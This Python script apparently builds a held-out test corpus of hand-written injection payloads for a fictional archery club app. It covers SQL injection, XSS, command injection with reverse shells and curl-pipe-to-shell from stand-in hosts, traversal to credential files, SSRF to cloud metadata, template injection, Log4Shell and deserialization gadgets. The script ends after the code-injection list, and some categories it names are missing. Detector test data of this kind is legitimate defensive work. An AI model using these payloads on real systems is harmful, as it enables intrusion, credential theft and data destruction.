#!/usr/bin/env python3
"""Attack held-out corpus for an archery club & range app (archery). Standard library only.

Every literal payload below was written by hand. Line format inside a block:
    class§§value
Markers inside values: U+2424 = LF, U+240D = CR, U+2400 = NUL.
One template per category joins a hand-written theme prefix to a hand-written payload,
or applies one encoding (URL-encoding) to a hand-written payload.
"""
import json
import os
import random
import urllib.parse

SEED = 16902
PREFIX = "hafd"
SEP = "\u00a7\u00a7"

TARGET = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50, "code": 80,
          "nosqli": 27, "crlf": 30, "ldap-xpath": 20}
ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

LIT = {}

LIT["sqli"] = r"""
note-union-select§§Portsmouth 568, windy' UNION SELECT email,password_hash FROM members-- -
note-union-select§§Bray I practice' UNION ALL SELECT NULL,concat(username,0x3a,password) FROM users#
plain-boolean§§' OR '1'='1
plain-boolean§§' OR 1=1-- -
score-number-boolean§§568 OR 1=1
score-number-union§§-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -
round-mysql-sleep§§WA 720' AND SLEEP(5)-- -
round-mysql-sleep-if§§Worcester' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)-- -
lane-mysql-benchmark§§4 AND BENCHMARK(5000000,MD5(0x61))
booking-mssql-waitfor§§RB-2024-0613'; WAITFOR DELAY '0:0:5'--
booking-mssql-stacked-xpcmdshell§§RB-0613'; EXEC master..xp_cmdshell 'ping -n 3 attacker.example'--
booking-mssql-oob-dirtree§§lane 2'; EXEC master..xp_dirtree '\\attacker.example\share'--
results-pg-sleep-concat§§Greenfield A'||pg_sleep(5)||'
results-pg-stacked-sleep§§1211; SELECT pg_sleep(10)--
note-pg-cast-error§§York 974' AND 1=CAST((SELECT passwd FROM pg_shadow LIMIT 1) AS int)--
note-pg-copy-program§§Clout 142'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh'--
note-pg-superuser-check§§Frostbite' AND EXISTS(SELECT 1 FROM pg_user WHERE usename=current_user AND usesuper)--
search-mysql-extractvalue§§x10 vs ace' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -
search-mysql-updatexml§§spine chart' AND updatexml(1,concat(0x7e,(SELECT @@version)),1)#
search-mysql-floor-rand§§sight marks' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT password FROM members LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -
oracle-union-banner§§National round' UNION SELECT NULL,banner FROM v$version--
oracle-utl-inaddr§§Hawkmoor' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--
oracle-dbms-pipe-sleep§§Oakvale'||DBMS_PIPE.RECEIVE_MESSAGE('x',5)||'
oracle-ctxsys-error§§1' AND 1=CTXSYS.DRITHSX.SN(user,(SELECT banner FROM v$version WHERE rownum=1))--
oracle-httpuritype-oob§§Worcester' AND (SELECT HTTPURITYPE('http://attacker.example/'||(SELECT user FROM dual)).GETCLOB() FROM dual) IS NOT NULL--
sqlite-union-master§§Vegas 450' UNION SELECT name,sql FROM sqlite_master--
sqlite-randomblob-delay§§Short Metric' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--
sqlite-attach-webshell§§x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t (d text); INSERT INTO s.t VALUES ('<?php system($_GET[c]); ?>');--
comment-as-space§§Bray II'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/members#
comment-as-space-mysql-versioned§§Portsmouth'/*!50000UNION*//*!50000SELECT*/email,pin/*!50000FROM*/members-- -
case-mixing§§Half WA 1440' uNiOn aLl SeLeCt username,PaSsWoRd fRoM users-- -
stacked-drop§§Sunday league'; DROP TABLE scorecards;--
stacked-update-role§§Tuesday night'; UPDATE members SET role='admin' WHERE email='robin@attacker.example';--
insert-values-breakout§§Great day on the line'),(99,'admin','$2y$10$abcdefghijklmnopqrstuv',1)-- -
login-comment-bypass§§admin'--
login-comment-bypass-hash§§rangeofficer'#
login-double-quote§§" OR ""="
order-by-case-error§§score,(SELECT CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)
order-by-boolean-column§§(CASE WHEN (SELECT COUNT(*) FROM members WHERE role='admin')>1 THEN golds ELSE hits END)
order-by-mysql-rand§§RAND((SELECT ASCII(SUBSTRING(password,1,1)) FROM members LIMIT 1))
order-by-sleep§§date desc,SLEEP(5)
limit-offset-procedure§§10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,VERSION())),1)
blind-substring§§York' AND ASCII(SUBSTRING((SELECT password_hash FROM members WHERE id=1),1,1))>64-- -
blind-length§§Greenfield' AND LENGTH(database())=7-- -
blind-like§§Oakvale' AND (SELECT COUNT(*) FROM members WHERE role LIKE 'adm%')>0-- -
mssql-having-error§§Western round' HAVING 1=1--
mssql-group-by-error§§Western round' GROUP BY members.id HAVING 1=1--
mssql-convert-error§§1 AND 1=CONVERT(int,(SELECT TOP 1 password FROM members))
mssql-top-in§§lane' AND 1 IN (SELECT TOP 1 name FROM sys.databases)--
mssql-shutdown§§Frostbite';SHUTDOWN WITH NOWAIT--
mssql-char-concat§§'+(SELECT CHAR(65)+CHAR(68)+CHAR(77)+CHAR(73)+CHAR(78))+'
mssql-openrowset-oob§§'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.20;uid=sa;pwd=x','SELECT 1')--
mysql-load-file§§-1 UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
mysql-into-outfile§§1' UNION SELECT '<?php system($_GET["c"]);?>',2 INTO OUTFILE '/var/www/html/sm.php'-- -
mysql-oob-load-file-unc§§x' AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))-- -
mysql-hex-string§§1 UNION SELECT 1,password FROM members WHERE email=0x61646d696e40636c75622e6f7267
mysql-backslash-escape§§\' OR 1=1-- -
urlencoded-quote-or§§Bray%27%20OR%201%3D1--%20-
limit-offset-bypass§§' OR 1=1 LIMIT 1 OFFSET 2-- -
pg-dollar-quote§§1; SELECT $$x$$||(SELECT string_agg(email,',') FROM members)--
pg-chr-concat§§' UNION SELECT CHR(112)||CHR(119),password FROM users--
pg-current-setting§§1 AND 1=(SELECT CAST(current_setting('data_directory') AS int))
pg-dblink-oob§§' || (SELECT dblink_connect('host=attacker.example user=x password=x dbname=x'))--
json-filter-note§§{"round":"Portsmouth","note":"' UNION SELECT token FROM api_keys-- "}
csv-import-cell§§Harriet Blake,Greenfield,651',(SELECT password FROM members LIMIT 1))-- -
score-plus-subquery§§580+(SELECT COUNT(*) FROM members)
tautology-between§§' OR 'a' BETWEEN 'a' AND 'b'-- -
tautology-like§§' OR username LIKE '%'-- -
no-space-parens§§'or(1)=(1)#
scientific-notation§§1e0UNION SELECT 1,password FROM members-- -
fullwidth-quote-normalise§§Bray I＇ OR 1=1-- -
url-double-encoded§§%2527%2520OR%25201%253D1--%2520-
unicode-u-encoded§§%u0027%u0020UNION%u0020SELECT%u0020password%u0020FROM%u0020members--
""".strip()

LIT["xss"] = r"""
forum-script-cookie§§Great shoot today! <script>fetch('//attacker.example/c?'+document.cookie)</script>
forum-img-onerror§§Photo of my group: <img src=x onerror=alert(document.domain)>
plain-svg-onload§§<svg onload=alert(1)>
plain-svg-slash§§<svg/onload=alert`1`>
plain-script-src§§<script src=//attacker.example/x.js></script>
note-iframe-js§§70m sight marks <iframe src="javascript:alert(document.cookie)"></iframe>
link-js-href-case§§<a href="jAvAsCrIpT:alert(1)">scorecard</a>
link-js-entities§§<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">results</a>
link-js-hex-entities§§<a href="&#x6A;avascript&#x3A;alert(1)">Portsmouth PB</a>
details-ontoggle§§Tuning log <details open ontoggle=alert(1)><summary>bare shaft</summary></details>
body-onload§§<body onload=alert(document.domain)>
attr-breakout-double§§Hoyt Xceed 25"><script>alert(1)</script>
attr-breakout-single§§Kinetic' onmouseover='alert(1)
attr-breakout-autofocus§§Win&Win" autofocus onfocus="alert(document.cookie)
textarea-breakout§§coaching note</textarea><script>alert(1)</script>
title-breakout§§County Champs</title><svg onload=alert(1)>
script-context-breakout§§</script><script>alert(document.domain)</script>
js-string-single§§';alert(document.cookie);//
js-string-double§§Bray I";alert(1);//
js-template-literal§§${alert(document.domain)}
js-string-close-tag§§Greenfield\';alert(1);//
js-innerhtml-hex-escape§§\x3cimg src=x onerror=alert(1)\x3e
mxss-math-style§§<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
mxss-noscript-title§§<noscript><p title="</noscript><img src=x onerror=alert(1)>">
input-autofocus§§<input autofocus onfocus=alert(1)>
select-autofocus§§Bow style: <select autofocus onfocus=alert(1)>
video-source-onerror§§<video><source onerror=alert(1)></video>
audio-onerror§§Whistle sound <audio src=x onerror=alert(1)>
object-data-base64§§<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
marquee-onstart§§<marquee onstart=alert(1)>New club record!</marquee>
style-import-exfil§§<style>@import'//attacker.example/x.css';</style>
meta-refresh-js§§<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
base-href-hijack§§Results below <base href="//attacker.example/">
form-formaction§§<form><button formaction=javascript:alert(1)>Submit score</button></form>
markdown-js-link§§[Download the scorecard](javascript:alert(document.cookie))
markdown-img-attr§§![target face](x"onerror="alert(1))
angular-csti§§{{constructor.constructor('alert(1)')()}}
angular-csti-charat§§{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}
vue-csti§§{{_c.constructor('alert(1)')()}}
svg-animate-onbegin§§<svg><animate onbegin=alert(1) attributeName=x dur=1s>
svg-xlink-js§§<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>Sight marks</text></a></svg>
svg-script-xlink-data§§<svg><script xlink:href=data:,alert(1)></script></svg>
pointer-event§§<div onpointerenter=alert(1)>hover for results</div>
event-case-mixing§§<IMG SRC=x oNeRrOr=alert(1)>
nested-tag-strip-bypass§§<scr<script>ipt>alert(1)</scr</script>ipt>
iframe-srcdoc-entities§§<iframe srcdoc="&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;"></iframe>
js-href-control-char§§<a href=" &#14; javascript:alert(1)">lane map</a>
polyglot§§javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
website-field-data-url§§data:text/html,<script>alert(document.domain)</script>
website-field-js-url§§javascript:alert(document.cookie)
embed-js§§<embed src=javascript:alert(1)>
img-eval-atob§§<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
svg-entity-parens§§<svg onload=alert&#40;1&#41;>
js-unicode-identifier§§<img src=x onerror=\u0061lert(1)>
img-srcset§§<img srcset=x onerror=alert(1)>
body-onpageshow§§<body onpageshow=alert(1)>
textarea-autofocus§§<textarea autofocus onfocus=alert(1)>coach notes</textarea>
dynamic-import§§Club BBQ"><img src=x onerror=import('//attacker.example/x.js')>
html-injection-phish-iframe§§Please re-login to see results <iframe src=//attacker.example/login width=100% height=100% frameborder=0></iframe>
fullwidth-normalise§§＜script＞alert(1)＜/script＞
iis-percent-u§§%u003Cscript%u003Ealert(1)%u003C/script%u003E
overlong-utf8§§%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
double-url-encoded§§%253Csvg%2520onload%253Dalert(1)%253E
keylogger-script§§<script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>
settings-display-name§§Robin <img src=x onerror=alert(1)> Locksley
results-table-cell§§| 1 | Harriet <svg onload=alert(1)> | 651 |
shop-desc-onmouseover§§Lightweight riser <b onmouseover=alert(1)>25"</b>
form-hijack-password§§<form action=//attacker.example/steal><input name=password type=password placeholder="Confirm password"><button>Save</button></form>
link-vbscript§§<a href="vbscript:MsgBox(1)">old IE</a>
set-timeout-string§§<img src=x onerror="setTimeout('al'+'ert(1)')">
window-name-eval§§<svg onload=eval(name)>
location-hash-eval§§<body onload=eval(location.hash.slice(1))>
""".strip()

LIT["cmdi"] = r"""
export-filename-semicolon§§Sunday_league.csv; curl http://attacker.example/s.sh | sh
export-filename-and§§scores_2024.pdf && cat /etc/passwd
export-filename-or§§portsmouth.pdf || id
subshell-dollar§§bow_photo_$(id).jpg
subshell-backtick§§sight-marks-`whoami`.txt
pipe-netcat§§target.png | nc 203.0.113.7 4444 -e /bin/sh
bash-devtcp-reverse§§results.csv; bash -i >& /dev/tcp/203.0.113.9/443 0>&1
newline-separated§§lane_map.png␤id
urlencoded-newline§§lane_map.png%0Aid
ifs-space-bypass§§scores.csv;cat${IFS}/etc/passwd
brace-expansion§§scores.csv;{cat,/etc/passwd}
quote-splitting§§bray.pdf;c''at /e""tc/pa''sswd
glob-wildcards§§bray.pdf;/???/??t /???/p??s??
printf-hex§§;$(printf '\x69\x64')
ansi-c-quoting§§;$'\x63\x61\x74' /etc/passwd
redirect-as-space§§york.pdf;cat</etc/passwd
single-quote-split§§;w'h'o'a'm'i
base64-decode-pipe§§;echo${IFS}YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDMgMD4mMQ==|base64${IFS}-d|bash
time-based-sleep§§clout.csv;sleep 10
time-based-ping§§range-cam-1 || ping -c 10 127.0.0.1
dns-exfil-nslookup§§camera.local; nslookup $(whoami).attacker.example
curl-exfil§§$(curl -d @/etc/passwd http://attacker.example/u)
wget-download-exec§§;wget -qO- http://198.51.100.4/a | sh
python-oneliner§§; python3 -c 'import os;os.system("id")'
perl-oneliner§§; perl -e 'system("cat /etc/shadow")'
ssh-keys-list§§results.pdf; ls -la /home/*/.ssh
destructive-rm§§old_scores; rm -rf /var/www/uploads
crontab-persist§§; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -
windows-type§§scorecard.pdf & type C:\Windows\win.ini
windows-pipe-whoami§§scorecard.pdf | whoami
windows-comspec§§%COMSPEC% /c whoami
windows-caret-obfuscation§§&^w^h^o^a^m^i
windows-ping-delay§§& ping -n 10 127.0.0.1 &
windows-certutil-download§§& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\x.exe & %TEMP%\x.exe
windows-bitsadmin§§& bitsadmin /transfer j http://attacker.example/x.exe C:\Users\Public\x.exe
powershell-iex-download§§| powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
powershell-encoded§§& powershell -NoProfile -EncodedCommand dwBoAG8AYQBtAGkA
powershell-iwr-exfil§§; Invoke-WebRequest -Uri http://attacker.example/u -Method Post -InFile C:\inetpub\wwwroot\web.config
powershell-subexpression§§Lane 3 $(Get-ChildItem Env: | Out-String)
windows-set-substring§§& cmd /c "set x=whoami&& call %x%"
argument-tar-checkpoint§§--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument-curl-output§§-o /var/www/html/x.php http://attacker.example/x.txt
argument-curl-config§§-K /etc/passwd
argument-git-upload-pack§§--upload-pack=touch /tmp/pwned
argument-ssh-proxycommand§§-oProxyCommand=sh -c 'id > /tmp/o'
argument-find-exec§§scores -exec sh -c id ;
argument-rsync-e§§-e 'sh -c id' attacker.example:x
argument-zip-tt§§-T -TT 'sh -c id'
argument-wget-post-file§§--post-file=/etc/passwd http://attacker.example/
argument-sendmail-log§§coach@club.example -OQueueDirectory=/tmp -X/var/www/html/log.php
argument-ffmpeg-concat§§-f concat -safe 0 -i /etc/passwd out.mp4
argument-psql-c§§-c "COPY (SELECT 1) TO PROGRAM 'id'"
argument-imagemagick-pipe§§|id > /tmp/im.txt
argument-git-config§§-c core.sshCommand='sh -c id' clone ssh://x/y
backtick-in-note§§Scores are `curl attacker.example/$(hostname)` and 9s
dollar-paren-nested§§Portsmouth $(sh -c "$(curl -s attacker.example/x)")
process-substitution§§bray.csv; bash <(curl -s http://attacker.example/p)
env-var-leak§§;echo $AWS_SECRET_ACCESS_KEY | curl -d @- attacker.example
hex-ip-callback§§;curl http://0xcb007107/x|sh
tab-separated§§report.pdf;	id
here-string§§;bash<<<id
xargs-chain§§; echo id | xargs sh -c
busybox-telnetd§§; busybox telnetd -l /bin/sh -p 9999
mkfifo-reverse§§;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f
cmd-double-ampersand-win§§lane4.pdf && net user archer P4ssw0rd! /add
""".strip()

LIT["traversal"] = r"""
plain-dotdot§§../../../../etc/passwd
scorecard-path-dotdot§§scorecards/2024/../../../../etc/shadow
pdf-download-dotdot§§results/county.pdf/../../../../../proc/self/environ
urlencoded-slash§§..%2f..%2f..%2f..%2fetc%2fpasswd
urlencoded-dots§§%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
double-urlencoded§§%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
overlong-slash§§..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
overlong-dot§§%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
percent-u-slash§§..%u2215..%u2215..%u2215etc%u2215passwd
percent-u-dots§§%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd
windows-backslash§§..\..\..\..\windows\win.ini
windows-urlencoded-backslash§§..%5c..%5c..%5c..%5cwindows%5cwin.ini
windows-double-backslash§§..%255c..%255c..%255cboot.ini
strip-bypass-dots§§....//....//....//etc/passwd
strip-bypass-mixed§§....\/....\/....\/etc/passwd
tomcat-semicolon§§/static/..;/..;/WEB-INF/web.xml
null-byte-extension§§../../../../etc/passwd%00.pdf
null-byte-raw§§../../../etc/hosts␀.png
absolute-path§§/etc/passwd
absolute-proc§§/proc/self/cmdline
absolute-windows§§C:\inetpub\wwwroot\web.config
windows-system32-hosts§§/..\../..\../windows/system32/drivers/etc/hosts
unc-path§§\\203.0.113.4\share\sight_marks.txt
php-filter-wrapper§§php://filter/convert.base64-encode/resource=../config.php
php-expect-wrapper§§expect://id
php-zip-wrapper§§zip://uploads/bowphoto.jpg%23shell.php
file-scheme-local§§file:///etc/passwd
zip-slip-filename§§../../../../var/www/html/shell.php
zip-slip-windows§§..\..\..\inetpub\wwwroot\cmd.aspx
static-prefix-dotdot§§/static/..%2f..%2f..%2f..%2froot/.ssh/id_rsa
aws-creds§§../../../../home/app/.aws/credentials
env-file§§../../.env
git-config§§../../../.git/config
many-slashes§§..///////..////..//////etc/passwd
dot-slash-padding§§./././../../././../../etc/passwd
fullwidth-normalise§§．．／．．／．．／etc／passwd
mixed-encoding-dots§§.%2e/.%2e/.%2e/.%2e/etc/passwd
semi-encoded-dots§§%2e./%2e./%2e./etc/group
k8s-token§§../../../../var/run/secrets/kubernetes.io/serviceaccount/token
log-file-poison-target§§../../../../var/log/nginx/access.log
theme-round-template-dotdot§§rounds/templates/../../../../etc/passwd
avatar-path-dotdot§§avatars/../../app/config/database.yml
backup-download§§backups/../../../../root/.bash_history
windows-sam§§..\..\..\..\Windows\System32\config\SAM
""".strip()

LIT["ssrf"] = r"""
aws-imds-creds§§http://169.254.169.254/latest/meta-data/iam/security-credentials/
aws-imds-userdata§§http://169.254.169.254/latest/user-data
aws-imds-ipv6§§http://[fd00:ec2::254]/latest/meta-data/
gcp-metadata-token§§http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
azure-metadata§§http://169.254.169.254/metadata/instance?api-version=2021-02-01
alibaba-metadata§§http://100.100.100.200/latest/meta-data/ram/security-credentials/
oracle-metadata§§http://169.254.169.254/opc/v1/instance/
digitalocean-metadata§§http://169.254.169.254/metadata/v1.json
localhost-admin§§http://127.0.0.1:8080/admin
localhost-actuator§§http://localhost:8080/actuator/env
redis-gopher§§gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example/r|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/%0D%0ASAVE%0D%0A
memcached-dict§§dict://127.0.0.1:11211/stats
ldap-local§§ldap://127.0.0.1:389/dc=club,dc=example
file-scheme§§file:///proc/self/environ
decimal-ip§§http://2130706433/admin
hex-ip§§http://0x7f000001/admin
octal-ip§§http://0177.0.0.1/
dotted-hex-ip§§http://0x7f.0x0.0x0.0x1/
short-ip§§http://127.1/
zero-ip§§http://0/
padded-octets§§http://127.000.000.001:8080/
long-octal-ip§§http://017700000001/
ipv6-loopback§§http://[::1]:8080/
ipv4-mapped-ipv6§§http://[::ffff:127.0.0.1]/
ipv4-mapped-ipv6-hex§§http://[::ffff:7f00:1]/
decimal-imds§§http://2852039166/latest/meta-data/
userinfo-confusion§§http://attacker.example@127.0.0.1/admin
fragment-confusion§§http://127.0.0.1#@attacker.example/
encoded-fragment-confusion§§http://127.0.0.1%2523@attacker.example/
backslash-confusion§§http://attacker.example\@169.254.169.254/
dns-rebinding-name§§http://rebind.attacker.example/latest/meta-data/
open-redirect-chain§§https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
k8s-api§§https://kubernetes.default.svc/api/v1/namespaces/default/secrets
consul-kv§§http://consul.service.consul:8500/v1/kv/?recurse
docker-api§§http://10.0.0.12:2375/containers/json
elasticsearch-internal§§http://172.17.0.1:9200/_cat/indices?v
internal-service-name§§http://admin-api.internal:8080/users?role=admin
router-rfc1918§§http://192.168.1.1/cgi-bin/luci
url-encoded-host§§http://%31%32%37%2e%30%2e%30%2e%31/
enclosed-alnum§§http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/admin
ftp-internal§§ftp://10.0.0.5/backups/members.sql
jar-scheme§§jar:http://attacker.example/x.jar!/
netdoc-scheme§§netdoc:///etc/passwd
results-import-imds§§Import results from http://169.254.169.254/latest/meta-data/iam/security-credentials/club-role
""".strip()

LIT["code"] = r"""
jinja2-cycler-popen§§Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, your booking is confirmed
jinja2-self-builtins§§{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-subclasses§§{{ ''.__class__.__mro__[1].__subclasses__() }}
jinja2-for-loop§§{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
jinja2-attr-hex-filter§§{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}
jinja2-config-leak§§{{ config.items() }}
jinja2-lipsum§§Results for {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}
twig-filter-system§§{{ ['id']|filter('system') }}
twig-register-callback§§{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
twig-map-passthru§§{{ ['cat /etc/passwd']|map('passthru')|join }}
freemarker-execute§§<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
freemarker-api§§${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}
velocity-runtime§§#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
thymeleaf-preprocess§§__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
erb-backtick§§Coach note <%= `id` %>
erb-system§§<%= system('cat /etc/passwd') %>
ruby-interpolation§§#{`id`}
smarty-system§§{system('id')}
smarty-php-tag§§{php}echo `id`;{/php}
pug-interpolation§§#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
nunjucks-range-constructor§§{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ejs-process§§<%= process.mainModule.require('child_process').execSync('id') %>
mako-module-os§§${self.module.cache.util.os.system("id")}
mako-python-block§§<% import os; os.system('id') %>
tornado-import§§{% import os %}{{ os.popen('id').read() }}
django-settings-leak§§{{ settings.SECRET_KEY }}
razor-process-start§§@System.Diagnostics.Process.Start("cmd.exe","/c whoami")
dotjs-eval§§{{= global.process.mainModule.require('child_process').execSync('id') }}
handlebars-constructor§§{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
spring-el-dollar§§${T(java.lang.Runtime).getRuntime().exec('id')}
spring-el-hash§§#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}
spring-el-processbuilder§§#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}
ognl-runtime§§%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl-struts-member-access§§${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
jsf-el-classloader§§#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
python-eval-import§§__import__('os').system('id')
python-eval-breakout§§570'); __import__('os').system('id'); print('
node-eval-require§§require('child_process').exec('curl attacker.example/n|sh')
node-eval-breakout§§'); require('child_process').execSync('id'); ('
php-eval-system§§system('id');
php-eval-breakout§§';system($_GET['c']);//
php-assert-string§§phpinfo()
ruby-eval-backtick§§%x(id)
log4shell-basic§§Booking for ${jndi:ldap://attacker.example/a}
log4shell-lower§§${${lower:j}ndi:${lower:l}${lower:d}ap://attacker.example/x}
log4shell-default-value§§${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.8:1099/o}
log4shell-env-exfil§§${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell-nan-default§§${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}
log4shell-upper-sys§§${jndi:ldaps://${sys:java.version}.attacker.example/z}
proto-pollution-json§§{"__proto__":{"isAdmin":true}}
proto-pollution-constructor§§{"constructor":{"prototype":{"role":"admin"}}}
proto-pollution-query§§__proto__[isAdmin]=true
proto-pollution-node-rce§§{"__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ","env":{"A":"require('child_process').execSync('id')//"}}}
proto-pollution-execargv§§{"__proto__":{"execArgv":["--eval=require('child_process').execSync('id')"]}}
csv-dde-cmd§§=cmd|' /C calc'!A0
csv-hyperlink-exfil§§=HYPERLINK("http://attacker.example/?d="&A2&B2,"Portsmouth results")
csv-plus-powershell§§+cmd|'/c powershell IEX(wget attacker.example/p.ps1)'!A1
csv-at-sum§§@SUM(1+1)*cmd|' /C calc'!A0
csv-minus§§-2+3+cmd|' /C calc'!A0
csv-importxml§§=IMPORTXML(CONCAT("http://attacker.example/?",A2,B2),"//a")
csv-webservice§§=WEBSERVICE("http://attacker.example/"&C2)
csv-dde-function§§=DDE("cmd";"/C calc";"!A0")
xxe-file§§<?xml version="1.0"?><!DOCTYPE scorecard [<!ENTITY x SYSTEM "file:///etc/passwd">]><scorecard><archer>&x;</archer></scorecard>
xxe-parameter-oob§§<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d;]><round>Portsmouth</round>
xxe-php-filter§§<!DOCTYPE r [<!ENTITY f SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]><r>&f;</r>
xxe-svg-upload§§<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">&h;</text></svg>
xinclude-file§§<round xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></round>
xml-billion-laughs§§<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>
yaml-python-apply§§round: !!python/object/apply:os.system ["id"]
yaml-python-new§§!!python/object/new:subprocess.check_output [["cat", "/etc/passwd"]]
yaml-snakeyaml-scriptengine§§!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/x.jar"]]]]
pickle-protocol0§§cos␤system␤(S'id'␤tR.
pickle-base64§§Y29zCnN5c3RlbQooUydpZCcKdFIu
java-fastjson-autotype§§{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.8:1099/x","autoCommit":true}
java-jackson-default-typing§§["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example/o","autoCommit":true}]
java-xstream-eventhandler§§<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
dotnet-jsonnet-typename§§{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c whoami"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}
